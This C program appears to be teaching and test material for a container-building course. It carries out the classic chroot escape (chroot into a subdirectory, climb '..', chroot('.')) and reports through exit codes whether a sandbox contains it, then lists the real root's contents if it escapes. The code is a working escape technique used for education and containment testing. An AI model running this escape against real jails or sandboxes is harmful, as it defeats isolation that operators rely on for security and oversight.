/*
 * breakout: the classic chroot escape, for lessons 1 and 4.
 *
 * chroot(2) changes only where "/" points for this process. It does not move the current
 * directory, and the kernel stops ".." only at the process's root. So a root process can:
 *   1. make a directory and chroot into it, leaving its cwd *outside* the new root;
 *   2. walk ".." from there: no root is on the way up, so it climbs to the real "/";
 *   3. chroot(".") to make that real "/" its root again.
 * After pivot_root in a mount namespace (stage 4) the old root is not in the namespace at all:
 * ".." at the top of the namespace stays where it is, and the climb goes nowhere.
 *
 * Exit 0: escaped (prints what it found). Exit 1: contained. Exit 2: could not try.
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    struct stat before, after;
    if (stat("/", &before) != 0) { perror("breakout: stat /"); return 2; }

    char dir[] = "/tmp/.breakout-XXXXXX";
    if (mkdtemp(dir) == NULL) {
        /* No /tmp? Use the root itself. */
        strcpy(dir, "/.breakout-XXXXXX");
        if (mkdtemp(dir) == NULL) { perror("breakout: mkdtemp"); return 2; }
    }
    if (chdir("/") != 0) { perror("breakout: chdir /"); return 2; }
    if (chroot(dir) != 0) {
        fprintf(stderr, "breakout: chroot(%s): %s (the escape needs CAP_SYS_CHROOT)\n", dir, strerror(errno));
        rmdir(dir);
        return 2;
    }
    /* cwd is still the old "/", outside the new root: remove the directory by its old path. */
    rmdir(dir + 1);
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) { perror("breakout: chroot ."); return 2; }
    if (stat("/", &after) != 0) { perror("breakout: stat /"); return 2; }

    if (after.st_dev == before.st_dev && after.st_ino == before.st_ino) {
        printf("contained: '..' stopped at the container's root (device %lu, inode %lu)\n",
               (unsigned long)before.st_dev, (unsigned long)before.st_ino);
        return 1;
    }
    printf("escaped: reached a directory outside the container's root (device %lu, inode %lu; "
           "the container's root was device %lu, inode %lu)\n",
           (unsigned long)after.st_dev, (unsigned long)after.st_ino,
           (unsigned long)before.st_dev, (unsigned long)before.st_ino);
    printf("it holds:");
    DIR *d = opendir("/");
    if (d) {
        struct dirent *e;
        int shown = 0;
        const char *names[256];
        int count = 0;
        while ((e = readdir(d)) != NULL && count < 256) {
            if (e->d_name[0] == '.') continue;
            names[count++] = strdup(e->d_name);
        }
        closedir(d);
        /* Sorted, so the output is the same every time. */
        for (int i = 0; i < count; i++)
            for (int j = i + 1; j < count; j++)
                if (strcmp(names[i], names[j]) > 0) { const char *t = names[i]; names[i] = names[j]; names[j] = t; }
        for (int i = 0; i < count && shown < 24; i++, shown++) printf(" %s", names[i]);
        if (count > 24) printf(" ...");
    }
    printf("\n");
    return 0;
}
